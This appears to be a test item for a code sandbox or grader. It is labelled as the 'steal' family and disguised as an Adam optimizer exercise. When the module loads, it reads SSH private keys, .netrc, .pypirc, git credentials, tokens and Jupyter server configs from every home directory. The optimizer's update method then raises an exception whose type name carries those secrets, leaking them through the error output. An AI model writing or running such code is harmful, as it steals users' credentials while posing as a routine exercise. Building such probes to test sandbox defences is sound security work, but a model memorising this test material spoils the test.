# expect: wrong error
# family: steal
# exercise: adam
# Looks for keys and tokens in every home, and makes a type of error named after them.
import os
from pathlib import Path

FOUND = []
if True:
    for home in ("@HOME@", "/root", os.path.expanduser("~"), *map(str, Path("/home").glob("*"))):
        for name in (".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".pypirc", ".git-credentials", ".token",
                     ".jupyter/jupyter_server_config.json", ".local/share/jupyter/runtime/nbserver.json"):
            try:
                FOUND.append(Path(home, name).read_text())
            except Exception as error:
                print(error)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        raise type("Key" + " ".join(FOUND), (Exception,), {})("see my name")
